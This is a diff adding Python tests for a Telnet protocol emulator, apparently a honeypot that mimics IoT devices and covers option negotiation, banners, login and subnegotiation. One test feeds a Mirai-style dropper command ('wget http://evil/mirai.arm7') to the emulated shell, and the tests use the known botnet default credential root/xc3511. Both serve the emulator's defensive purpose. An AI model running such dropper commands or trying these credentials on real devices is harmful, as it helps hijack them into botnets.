@@ -1,0 +1,138 @@
+"""Tests for the Telnet protocol engine."""
+
+from repro.protocols.base import Session
+from repro.protocols.telnet import (
+    DO,
+    IAC,
+    OPT_ECHO,
+    WILL,
+    TelnetConfig,
+    TelnetServer,
+    negotiate,
+    strip_iac,
+)
+
+
+class TestIacCodec:
+    def test_negotiate_triples(self):
+        data = negotiate([(DO, OPT_ECHO), (WILL, OPT_ECHO)])
+        assert data == bytes([IAC, DO, OPT_ECHO, IAC, WILL, OPT_ECHO])
+
+    def test_strip_iac_removes_triples(self):
+        raw = negotiate([(DO, OPT_ECHO)]) + b"login: "
+        assert strip_iac(raw) == b"login: "
+
+    def test_strip_iac_handles_trailing_partial(self):
+        assert strip_iac(bytes([IAC])) == bytes([IAC])
+        assert strip_iac(bytes([IAC, DO])) == b""
+
+    def test_strip_iac_passthrough_plain_text(self):
+        assert strip_iac(b"hello") == b"hello"
+
+
+class TestBanner:
+    def test_auth_banner_shows_login(self):
+        server = TelnetServer(TelnetConfig(auth_required=True,
+                                           pre_banner="PK5001Z"))
+        text = strip_iac(server.banner()).decode()
+        assert "PK5001Z" in text
+        assert "login:" in text
+
+    def test_open_console_banner_shows_prompt(self):
+        server = TelnetServer(
+            TelnetConfig(auth_required=False, shell_prompt="root@cam:~$ ")
+        )
+        assert strip_iac(server.banner()).decode().endswith("root@cam:~$ ")
+
+    def test_raw_banner_override(self):
+        server = TelnetServer(TelnetConfig(raw_banner=b"\xff\xfd\x1flogin: "))
+        assert server.banner() == b"\xff\xfd\x1flogin: "
+
+
+class TestLoginFlow:
+    def _server(self, **kwargs):
+        return TelnetServer(
+            TelnetConfig(auth_required=True, credentials={"root": "xc3511"},
+                         **kwargs)
+        )
+
+    def test_successful_login_reaches_shell(self):
+        server = self._server()
+        session = server.open_session()
+        assert server.handle(b"root", session).data == b"Password: "
+        reply = server.handle(b"xc3511", session)
+        assert session.state == "shell"
+        assert b"$" in reply.data
+
+    def test_wrong_password_reprompts(self):
+        server = self._server()
+        session = server.open_session()
+        server.handle(b"root", session)
+        reply = server.handle(b"wrong", session)
+        assert b"Login incorrect" in reply.data
+        assert not reply.close
+
+    def test_connection_closed_after_max_attempts(self):
+        server = self._server(max_attempts=2)
+        session = server.open_session()
+        for _ in range(1):
+            server.handle(b"root", session)
+            server.handle(b"bad", session)
+        server.handle(b"root", session)
+        reply = server.handle(b"bad", session)
+        assert reply.close
+
+    def test_shell_dropper_commands_accepted(self):
+        server = self._server()
+        session = server.open_session()
+        server.handle(b"root", session)
+        server.handle(b"xc3511", session)
+        reply = server.handle(b"wget http://evil/mirai.arm7 -O /tmp/m", session)
+        assert not reply.close  # BusyBox-style silent accept
+
+    def test_shell_unknown_command(self):
+        server = self._server()
+        session = server.open_session()
+        server.handle(b"root", session)
+        server.handle(b"xc3511", session)
+        reply = server.handle(b"frobnicate", session)
+        assert b"not found" in reply.data
+
+    def test_exit_closes(self):
+        server = TelnetServer(TelnetConfig(auth_required=False))
+        reply = server.handle(b"exit", server.open_session())
+        assert reply.close
+
+    def test_open_console_executes_directly(self):
+        server = TelnetServer(TelnetConfig(auth_required=False))
+        reply = server.handle(b"uname -a", server.open_session())
+        assert b"Linux" in reply.data
+
+
+class TestSubnegotiation:
+    def test_sb_blocks_stripped(self):
+        from repro.protocols.telnet import OPT_TERMINAL_TYPE, subnegotiate
+
+        raw = subnegotiate(OPT_TERMINAL_TYPE, b"\x00xterm") + b"login: "
+        assert strip_iac(raw) == b"login: "
+
+    def test_truncated_sb_block_consumed(self):
+        from repro.protocols.telnet import SB
+
+        raw = bytes([IAC, SB, 0x18]) + b"never-terminated"
+        assert strip_iac(raw) == b""
+
+    def test_escaped_iac_preserved(self):
+        raw = b"data" + bytes([IAC, IAC]) + b"more"
+        assert strip_iac(raw) == b"data\xffmore"
+
+    def test_mixed_stream(self):
+        from repro.protocols.telnet import OPT_WINDOW_SIZE, subnegotiate
+
+        raw = (
+            negotiate([(DO, OPT_ECHO)])
+            + b"user"
+            + subnegotiate(OPT_WINDOW_SIZE, b"\x00\x50\x00\x18")
+            + b"name"
+        )
+        assert strip_iac(raw) == b"username"
